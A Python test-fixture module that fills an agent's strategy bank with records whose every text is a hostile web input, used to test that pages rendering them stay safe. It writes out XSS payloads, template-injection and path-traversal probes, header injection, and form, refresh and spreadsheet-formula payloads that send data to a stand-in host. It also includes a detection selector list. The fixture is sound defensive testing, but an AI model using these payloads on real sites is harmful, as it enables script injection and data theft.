"""A bank in which every text of every record turns against a page that shows it, in every state that a record can have.

    bank = await Bank.open(Location(home))
    await fill(bank)            HOSTILE is what it then holds; HARMLESS has ordinary words in the same states

Each text tries one way into a page. What succeeds leaves a trace: `window.pwned`, a dialog, an element that matches TRACES, a
request to ELSEWHERE. One record of each kind has lines of two million characters in all its texts.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from itertools import cycle
from typing import Any, TypeVar

from pydantic import BaseModel

from strategy_bank.store.bank import Bank
from strategy_bank.store.records import (
    Episode,
    Hit,
    LearnedStrategy,
    Proposal,
    Recall,
    Revision,
    Run,
    StatusChange,
    Strategy,
    content_id,
)
from strategy_bank.store.retrieval.strategy_vectors import EmbeddedStrategy
from strategy_bank.tools.consolidation.merge import merged_into
from strategy_bank.tools.judging.judgement import Comparison, Judgement, StrategyDraft
from strategy_bank.tools.safety.admission import CAUTION, NEW, QUARANTINED

ELSEWHERE = "elsewhere.invalid"
TRACES = (
    "[data-pwned], script:not([src]), iframe, object, embed, base, svg [onload], [href^='javascript:' i], [src^='data:' i], "
    "[action^='javascript:' i], [onerror], [onload], [onclick], [onmouseover], [onfocus], [ontoggle], [style*='pwned']"
)
_P = "window.pwned=1"
TEXTS = {
    "script": f"<script data-pwned>{_P};alert(1)</script>",
    "script that closes another": f"</script></style></textarea></title><script>{_P}</script>-->]]><script>{_P}</script>",
    "image": f'"><img data-pwned src=https://{ELSEWHERE}/i onerror="{_P};alert(1)">',
    "image without quotes": f"'><img data-pwned src=x onerror={_P}//",
    "drawing": f"<svg data-pwned onload={_P}><animate onbegin={_P} attributeName=x></svg><math><mtext><script>{_P}</script>",
    "handler in an attribute": f'" onmouseover="{_P}" onfocus="{_P}" autofocus tabindex=1 data-pwned x="',
    "handler in a quoted attribute": f"' onmouseover='{_P}' autofocus data-pwned='",
    "folding": f'<details open ontoggle="{_P}" data-pwned><summary>x</summary></details>',
    "frame": f'<iframe data-pwned srcdoc="<script>parent.{_P}</script>"></iframe><base href=https://{ELSEWHERE}/>',
    "form": f'</form><form data-pwned action=https://{ELSEWHERE}/ method=post><button autofocus>Keep</button>',
    "refresh": f'<meta data-pwned http-equiv=refresh content="0;url=https://{ELSEWHERE}/">',
    "style": f"</style><link data-pwned rel=stylesheet href=//{ELSEWHERE}><style>*{{background:url(//{ELSEWHERE}/b)}}</style>",
    "style in an attribute": f'red;background:url(https://{ELSEWHERE}/c)" style="pwned:1;position:fixed;inset:0',
    "address": f"javascript:{_P};alert(1)",
    "address in disguise": f"java\tscript:{_P}//\n[here](javascript:{_P}) ![x](https://{ELSEWHERE}/m)",
    "address of data": f"data:text/html,<script>{_P}</script>",
    "address elsewhere": f"//{ELSEWHERE}/\\\\{ELSEWHERE}/../../etc/passwd?a=1&b=<2>#{{}}",
    "template": "{{7*191}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}${7*191}<%= 7*191 %>",
    "htmx": f'<div data-pwned hx-get="https://{ELSEWHERE}/h" hx-trigger="load" hx-on:load="{_P}">x</div><hx-partial>',
    "entities": f"&lt;img data-pwned src=x onerror={_P}&gt; &#60;script&#62;{_P}&#60;/script&#62; &amp;lt; &quot; &#x27;",
    "other brackets": f"＜script＞{_P}＜/script＞ ‹script› +ADw-script+AD4-{_P}+ADw-/script+AD4-",
    "control characters": "bell\x07 esc\x1b[31mred\x1b[0m \x1b]0;title\x07 back\x08space null\x00 del\x7f next\x85line \x9b31m",
    "directions": "user\u202egnp.exe\u202c \u2066isolated\u2069 \u200fright \u061carabic",
    "invisible": "zero\u200bwidth soft\xadhyphen tag\U000e0041\U000e007f\u2060 filler\u3164 blank\u2800 bom\ufeff",
    "line breaks": "one\rtwo\r\nthree\u2028four\u2029five\x0bsix\x0cseven\n\n\n\n\teight",
    "marks": "Z" + "\u0351\u0489" * 200 + " ﷽𒐫" * 20,
    "formula": f'=HYPERLINK("https://{ELSEWHERE}/?"&A1,"x")',
    "event stream": f"data: x\n\nevent: change\ndata: <img data-pwned src=x onerror={_P}>\nretry: 1\nid: 1\n\n",
    "header": f"x\r\nSet-Cookie: pwned=1\r\nLocation: https://{ELSEWHERE}/\r\n\r\n<script>{_P}</script>",
    "json in a page": f'</script><!--<script>{{"a":"\u2028{_P}"}}\\u003cscript\\u003e',
    "one long word": "unbroken" * 400,
    "nothing": "",
    "white space": " \n\t ",
}  # fmt: skip
"""Name of the way → the text."""
LONG = "long line"
LINE = f'<b data-pwned onclick="{_P}">two million</b> ' * 45_000
_AT = datetime(2026, 3, 1, 12, tzinfo=UTC)
M = TypeVar("M", bound=BaseModel)


def id_of(kind: str, name: str, number: int = 1) -> str:
    """Return the id of a record: `st`, `ep`, `run` or `rc`, the name of its text, and which of several."""
    return content_id(kind, "hostile", name, str(number))


def hostile(model: type[M], text: str, **known: Any) -> M:
    """Return such a record with the text in every text field and in every list of texts but those that are given."""
    fields = model.model_fields.items()
    texts = {name: text for name, info in fields if info.annotation is str}
    lists = {name: [text] for name, info in fields if info.annotation == list[str]}
    return model.model_validate(texts | lists | known)


def _lessons(name: str, text: str, at: datetime, state: Mapping[str, Any]) -> Iterator[Strategy]:
    """Yield a lesson in recall that another contradicts, with a history and corrections that wait, and one in a given state."""
    first, second = id_of("st", name, 1), id_of("st", name, 2)
    words = {"replaced_by": id_of("ep", name), "proposed_by": text}
    long = name == LONG  # its history would be another 20 MB
    history = (
        [] if long else [hostile(Revision, text, **words), hostile(Revision, text), hostile(Revision, "Other words")]
    )
    waiting = [hostile(Proposal, text, proposed_by=id_of("ep", name)), hostile(Proposal, text, waits=True)]
    yield hostile(
        Strategy,
        text,
        id=first,
        created_at=at,
        updated_at=at,
        outcome="contrast",
        scope=text[:200] or "global",
        helped=3,
        hurt=1,
        episode_ids=[id_of("ep", name), text[:300]],
        run_ids=[id_of("run", name), text[:300]],
        credited_by=[id_of("ep", name), text[:300]],
        pardoned=[],
        contradicts=[id_of("st", name, 3), text[:300]],
        revisions=history,
        proposals=waiting[:1] if long else waiting,
        decisions=_decisions(name, text, at),
    )
    other = {
        "id": second,
        "created_at": at,
        "updated_at": at,
        "outcome": "failure",
        "scope": "project",
        "contradicts": [],
    }
    yield hostile(Strategy, text, **other | state)
    opposite = {"outcome": "success", "scope": text[:200] or "global", "contradicts": [first], "caution": ""}
    yield hostile(Strategy, f"Not so: {text}", id=id_of("st", name, 3), created_at=at, updated_at=at, **opposite)


def _decisions(name: str, text: str, at: datetime) -> list[StatusChange]:
    """Return one decision of each kind."""
    proposal = hostile(Proposal, text, proposed_by=id_of("ep", name), proposed_at=at)
    made = {"before": "active", "after": "active", "reason": text, "caution": text, "changed_at": at}
    return [
        StatusChange.model_validate(made | {"what": "parted", "opposite": id_of("st", name, 2)}),
        StatusChange.model_validate(made | {"what": "joined", "opposite": text[:300]}),
        StatusChange.model_validate(made | {"what": "dropped", "proposal": proposal}),
        StatusChange.model_validate(made | {"what": "status", "before": "retired"}),
    ]


def _states() -> Iterator[dict[str, Any]]:
    """Yield, again and again, what a lesson can be that is not in recall, with the reasons that the bank writes."""
    failed = ", ".join(id_of("ep", name) for name in list(TEXTS)[:6])
    retired = f"1 of 6 tasks that used it succeeded, of all tasks 80%; it failed in {failed}"
    yield from cycle(
        [
            {"status": "quarantined"},  # its reason is the text
            {"status": "quarantined", "status_reason": f"{QUARANTINED}tells the agent to ignore its instructions"},
            {"status": "waiting", "status_reason": NEW, "caution": ""},
            {"status": "waiting", "caution": CAUTION},
            {"status": "retired", "status_reason": retired},
            {"status": "retired", "status_reason": merged_into(id_of("st", "script"))},
            {"status": "retired"},
        ]
    )


def _episodes(name: str, text: str, at: datetime) -> Iterator[Episode]:
    """Yield a judged attempt, one that waits for its judgement, and one of plain text whose judgement is damaged."""
    shown = {
        "scope": text[:200] or "global",
        "recall_id": id_of("rc", name),
        "used_ids": [id_of("st", name), text[:300]],
    }
    learned = [hostile(LearnedStrategy, text, id=id_of("st", name, number), action=action)
               for number, action in ((1, "added"), (2, "merged"), (9, "proposed"))]  # fmt: skip
    steps = (
        f"[1] user: {text}\n[2] thought: {text}\n[2] action: {text}\n[2] observation: {text}\n"
        f"[3] action 1: bash({text})\n[3] observation 1: {text}\n[4] assistant: {text}"
    )
    at_times = {"created_at": at, "updated_at": at}
    yield hostile(
        Episode,
        text,
        **shown | at_times,
        id=id_of("ep", name),
        trajectory=text * 2 if name == LONG else steps,
        steps=4,
        status="learned",
        outcome="success",
        self_verdict="failure",
        verdict="success",
        judgement=_judgement(text),
        helped_ids=[id_of("st", name)],
        wrong_ids=[text[:300]],
        unfit_ids=[id_of("st", name, 2)],
        learned=learned,
        run_id=id_of("run", name),
        attempt=1,
    )
    yield hostile(
        Episode,
        text,
        **at_times,
        id=id_of("ep", name, 2),
        trajectory=text or " ",
        steps=1,
        run_id=id_of("run", name),
        attempt=2,
    )
    if name != LONG:
        damaged = {"status": "recorded", "verdict": "failure", "judgement": text, "recall_id": "", "run_id": ""}
        yield hostile(Episode, text, **at_times, id=id_of("ep", name, 3), steps=1, **damaged)


def _judgement(text: str) -> str:
    draft = StrategyDraft.model_construct(title=text, description=text, content=text, holds="generally", amends="")
    said = Judgement.model_construct(reason=text, verdict="failure", evidence=[text, "not there"], strategies=[draft])
    return said.model_dump_json(warnings=False)


def _runs(name: str, text: str, at: datetime, number: int) -> Iterator[Run]:
    """Yield a finished run, and one that is not."""
    recalled = [
        hostile(Hit, text, id=id_of("st", name), outcome="success", relevance=0.8, helped=1, hurt=0, proposals=[])
    ]
    compared = Comparison.model_construct(analysis=text, best_attempt=1, strategies=[]).model_dump_json(warnings=False)
    compared_well = {"status": "finished", "best_attempt": 1, "comparison": compared, "mode": "parallel"}
    other = {"status": ("comparison_needed", "running")[number % 2], "mode": "sequential"}  # its comparison is the text
    for place, state in enumerate((compared_well, other), 1):
        yield hostile(
            Run,
            text,
            id=id_of("run", name, place),
            created_at=at,
            updated_at=at,
            scope=text[:200] or "global",
            attempts=3,
            recall_id=id_of("rc", name),
            recalled=recalled,
            learned=[hostile(LearnedStrategy, text, id=id_of("st", name), action="amended")],
            **state,
        )


def _recalls(name: str, text: str, at: datetime, number: int) -> Iterator[Recall]:
    """Yield a recall that shows, lists and holds out lessons, one with ids that are none, and one of the other kinds."""
    shown, other, held = ([id_of("st", name, each)] for each in (1, 3, 2))
    lists = ("strategy_ids", "listed_ids", "opened_ids", "held_out_ids", "sure_ids", "echoed_ids")
    empty = {field: list[str]() for field in lists}
    menu = {"strategy_ids": shown, "sure_ids": shown, "listed_ids": other, "opened_ids": other, "held_out_ids": held}
    kinds: list[dict[str, Any]] = [
        {},  # every list names the text
        menu | {"tokens": 420},
        empty,  # nothing fitted
        empty | {"listed_ids": other},
        empty | {"strategy_ids": shown, "echoed_ids": shown, "stuck": 1, "stops": 2, "asked": 1},
    ]
    for place, kind in enumerate((kinds[1], kinds[0] if name != LONG else empty, kinds[2 + number % 3]), 1):
        noted = {"id": id_of("rc", name, place), "created_at": at, "scope": text[:200] or "global"}
        answered = {"answered_by": id_of("ep", name) if place == 1 else text[:300]}
        yield hostile(Recall, text, **noted | answered | kind)


@dataclass(frozen=True)
class Records:
    """All of a bank, by kind."""

    lessons: list[Strategy]
    episodes: list[Episode]
    runs: list[Run]
    recalls: list[Recall]


def records(texts: Mapping[str, str]) -> Records:
    """Return the records that have these texts, by the names that `id_of` takes; lessons are in all states from seven on."""
    made = Records([], [], [], [])
    for number, ((name, text), state) in enumerate(zip(texts.items(), _states(), strict=False)):
        at = _AT + timedelta(hours=6 * number)
        made.lessons.extend(_lessons(name, text, at, state))
        made.episodes.extend(_episodes(name, text, at))
        made.runs.extend(_runs(name, text, at, number))
        made.recalls.extend(_recalls(name, text, at, number))
    return made


HOSTILE = records(TEXTS | {LONG: LINE})
HARMLESS = records({f"{number}": f"Look at the log of worker {number} first" for number in range(8)})


async def fill(bank: Bank, held: Records = HOSTILE) -> None:
    """Add the records. The longest lessons have the vectors of a short one: what a model makes of them is no matter here."""
    long = [lesson for lesson in held.lessons if len(lesson.content) > len(LINE) - 1]
    embedded = await bank.embed([lesson for lesson in held.lessons if lesson not in long])
    like = embedded[0]
    embedded += [EmbeddedStrategy(lesson, like.retrieval, like.text, like.packed_pieces) for lesson in long]
    await bank.atomically(lambda: bank.add_strategies(embedded))
    for others in (held.episodes, held.runs, held.recalls):
        await bank.atomically(lambda others=others: bank.add_all(others))
